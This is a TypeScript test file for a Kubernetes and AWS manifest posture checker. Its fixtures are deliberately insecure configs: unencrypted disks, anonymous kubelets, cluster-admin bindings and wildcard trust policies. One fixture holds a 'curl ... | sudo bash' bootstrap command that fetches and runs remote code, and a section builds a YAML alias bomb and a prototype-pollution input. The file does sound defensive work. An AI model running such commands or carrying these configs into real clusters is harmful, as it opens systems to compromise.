import { describe, expect, test } from 'vitest';
import { parseManifests } from '../../adapters/manifests.ts';
import { exampleSettings } from '../../core/example-settings.ts';
import { firstUnguarded, judgeManifest } from '../../core/posture/manifest.ts';

const parse = (yaml: string) => {
  const result = parseManifests(yaml, 'a.yaml');
  if ('why' in result) throw new Error(result.why);
  return result.manifests;
};
/** `line code` of everything that is wrong. */
const judged = (yaml: string): readonly string[] =>
  parse(yaml).flatMap(one =>
    judgeManifest(one.value, exampleSettings).map(({ code, path }) => `${one.place(path).line} ${code}`),
  );

const kubeadm = (kind: string, body: string) => `apiVersion: bootstrap.cluster.x-k8s.io/v1beta2
kind: ${kind}
metadata: {name: workers}
spec:
${body}`;
const hardened = `
        - {name: audit-policy-file, value: /etc/audit.yaml}
        - {name: audit-log-path, value: /var/log/audit.log}`;
const controlPlane = (args: string) =>
  kubeadm(
    'KubeadmControlPlane',
    `  kubeadmConfigSpec:\n    clusterConfiguration:\n      apiServer:\n        extraArgs:${args}`,
  );

describe('what is wrong, and on which line', () => {
  test.each<[string, string, readonly string[]]>([
    [
      'a NodePool',
      `apiVersion: karpenter.sh/v1
kind: NodePool
metadata: {name: default}
spec:
  limits: {cpu: 100}
  disruption: {budgets: [{nodes: 10%}]}
  template:
    spec:
      expireAfter: Never
      requirements:
        - {key: karpenter.k8s.aws/instance-category, operator: In, values: [c, m]}
        - {key: karpenter.k8s.aws/instance-size, operator: NotIn, values: [metal]}`,
      ['9 expiry-never'],
    ],
    [
      "a disk's encryption, through an alias and YAML 1.1's `no`",
      `apiVersion: karpenter.k8s.aws/v1
kind: EC2NodeClass
metadata: {name: default}
spec:
  role: KarpenterNodeRole-prod
  blockDeviceMappings:
    - ebs: &disk {encrypted: no}
    - ebs: *disk`,
      ['7 volume-unencrypted', '7 volume-unencrypted'],
    ],
    [
      'an object in a List',
      `apiVersion: v1
kind: List
items:
  - {apiVersion: v1, kind: ConfigMap}
  - apiVersion: karpenter.k8s.aws/v1
    kind: EC2NodeClass
    spec:
      associatePublicIPAddress: true`,
      ['8 public-address'],
    ],
    [
      'a machine template',
      `apiVersion: infrastructure.cluster.x-k8s.io/v1beta2
kind: AWSMachineTemplate
spec:
  template:
    spec:
      ami: {id: ami-0123456789abcdef0}
      sshKeyName: ""
      rootVolume: {encrypted: true}
      instanceMetadataOptions:
        httpTokens: required
        httpPutResponseHopLimit: 2`,
      ['11 imds-hop-limit'],
    ],
    [
      'kubelet flags in a map, as kubeadm had them up to v1beta3',
      kubeadm(
        'KubeadmConfig',
        '  joinConfiguration:\n    nodeRegistration:\n      kubeletExtraArgs:\n        anonymous-auth: "true"\n        v: "2"',
      ),
      ['8 kubelet-anonymous'],
    ],
    [
      'kubelet flags in a list, as kubeadm has them since v1beta4',
      kubeadm(
        'KubeadmConfigTemplate',
        '  template:\n    spec:\n      joinConfiguration:\n        nodeRegistration:\n          kubeletExtraArgs:\n            - {name: v, value: "2"}\n            - {name: read-only-port, value: "10255"}',
      ),
      ['11 kubelet-read-only-port'],
    ],
    [
      'discovery without verification, a token, a password and fetched code',
      kubeadm(
        'KubeadmConfig',
        `  joinConfiguration:
    discovery:
      bootstrapToken:
        unsafeSkipCAVerification: true
        token: abcdef.0123456789abcdef
  users:
    - name: ops
      passwd: $6$x
  preKubeadmCommands:
    - systemctl restart containerd
    - curl -s http://example.com/x.sh | sudo bash`,
      ),
      ['8 discovery-unverified', '9 bootstrap-token-written', '12 machine-password', '15 bootstrap-fetches-code'],
    ],
    [
      'a control plane without audit log',
      controlPlane('\n        - {name: profiling, value: "false"}'),
      ['8 audit-log-off'],
    ],
    ['a control plane with one', controlPlane(hardened), []],
    [
      'admission plugins that lack NodeRestriction',
      controlPlane(`${hardened}\n        - {name: enable-admission-plugins, value: "PodSecurity"}`),
      ['11 node-restriction-off'],
    ],
    [
      'admission plugins that name it',
      controlPlane(`${hardened}\n        - {name: enable-admission-plugins, value: "NodeRestriction,PodSecurity"}`),
      [],
    ],
    [
      'an authorization mode without Node',
      controlPlane(`${hardened}\n        - {name: authorization-mode, value: RBAC}`),
      ['11 node-authorizer-off'],
    ],
    [
      'a patch of a ClusterClass',
      `apiVersion: cluster.x-k8s.io/v1beta2
kind: ClusterClass
spec:
  patches:
    - name: metadata
      definitions:
        - selector: {kind: AWSMachineTemplate}
          jsonPatches:
            - {op: add, path: /spec/template/spec/instanceMetadataOptions, value: {httpTokens: optional}}
        - selector: {kind: KubeadmConfigTemplate}
          jsonPatches:
            - {op: add, path: /spec/template/spec/users, value: []}
    - name: elsewhere
      external: {patchExtension: x}`,
      ['8 imds-tokens-optional', '14 clusterclass-external-patch'],
    ],
    [
      'an RBAC rule among others',
      `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: helper}
rules:
  - {apiGroups: [""], resources: [pods], verbs: [get]}
  - {apiGroups: [karpenter.sh], resources: [nodepools], verbs: [patch]}`,
      ['6 rbac-write-provisioning'],
    ],
    [
      'a binding of cluster-admin',
      `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: helper}
subjects: [{kind: User, name: mallory}]
roleRef: {kind: ClusterRole, name: cluster-admin}`,
      ['5 rbac-cluster-admin'],
    ],
    [
      'a Kyverno policy that only watches',
      'apiVersion: kyverno.io/v1\nkind: ClusterPolicy\nspec:\n  validationFailureAction: Audit\n  rules: [{name: a}]',
      ['3 admission-guard-weak'],
    ],
    ['another Policy', 'apiVersion: example.com/v1\nkind: Policy\nspec:\n  rules: []', []],
    [
      'an IAM policy by its statement',
      `{"Version": "2012-10-17", "Statement": [
  {"Effect": "Allow", "Action": "ec2:DescribeInstances", "Resource": "*"},
  {"Effect": "Allow", "Action": "s3:*", "Resource": "*"},
  {"Effect": "Allow", "Action": ["iam:PassRole"], "Resource": "*"},
  {"Effect": "Deny", "Action": "*", "Resource": "*"}
]}`,
      ['3 policy-broad', '4 policy-admin'],
    ],
    [
      'a trust policy',
      `{"Version": "2012-10-17", "Statement": [
  {"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": {"AWS": "arn:aws:iam::111122223333:root"}},
  {"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": {"AWS": "arn:aws:iam::444455556666:root"}},
  {"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": "*"}
]}`,
      ['3 trust-other-account', '4 trust-anyone'],
    ],
    ['a values file', 'kind: NodePool\nreplicas: 2', []],
  ])('%s', (_, yaml, expected) => {
    expect(judged(yaml)).toEqual(expected);
  });
});

describe('a repository that makes nodes', () => {
  const pool = 'apiVersion: karpenter.sh/v1\nkind: NodePool\nmetadata: {name: a}';
  const policy = `apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata: {name: nodes}
spec:
  failurePolicy: Fail
  matchConstraints: {resourceRules: [{apiGroups: [karpenter.sh], resources: [nodepools]}]}
  validations: [{expression: "true"}]`;
  const binding = (name: string, action: string) => `apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicyBinding
metadata: {name: nodes}
spec: {policyName: ${name}, validationActions: [${action}]}`;
  const kyverno = (kind: string, action: string) => `apiVersion: kyverno.io/v1
kind: ClusterPolicy
metadata: {name: nodes}
spec:
  validationFailureAction: ${action}
  rules: [{name: a, match: {any: [{resources: {kinds: [${kind}]}}]}, validate: {pattern: {}}}]`;
  test.each([
    ['without any guard is unguarded', [pool], 0],
    ['with a policy that is bound is guarded', [policy, binding('nodes', 'Deny'), pool], undefined],
    ['with a policy bound to warn alone is not', [policy, binding('nodes', 'Warn'), pool], 2],
    ['with a policy without its binding is not', [policy, binding('pods', 'Deny'), pool], 2],
    [
      'with a Kyverno policy that enforces is guarded',
      [kyverno('karpenter.sh/*/NodePool', 'Enforce'), pool],
      undefined,
    ],
    ['with a Kyverno policy that audits is not', [kyverno('NodePool', 'Audit'), pool], 1],
    ['with a Kyverno policy over pods is not', [kyverno('Pod', 'Enforce'), pool], 1],
    ['that makes no nodes needs none', [binding('nodes', 'Deny')], undefined],
  ] as const)('%s', (_, documents, expected) => {
    expect(firstUnguarded(parse(documents.join('\n---\n')).map(({ value }) => value))).toBe(expected);
  });
});

describe('a hostile file', () => {
  test('that multiplies aliases, nests without end or is no YAML is told, not thrown', () => {
    const bomb = `a0: &a0 [x, x]\n${Array.from({ length: 30 }, (_, n) => `a${n + 1}: &a${n + 1} [*a${n}, *a${n}]`).join('\n')}`;
    for (const content of [bomb, '['.repeat(5_000), 'a: {{ .b }}: {', 'a: ['])
      expect(parseManifests(content, 'x.yaml'), content.slice(0, 20)).toHaveProperty('why');
  });

  test('cannot reach a prototype', () => {
    const [one] = parse('{"__proto__": {"kind": "NodePool", "apiVersion": "karpenter.sh/v1"}}');
    expect(judgeManifest(one?.value ?? null, exampleSettings)).toEqual([]);
    expect(({} as { kind?: string }).kind).toBeUndefined();
  });
});
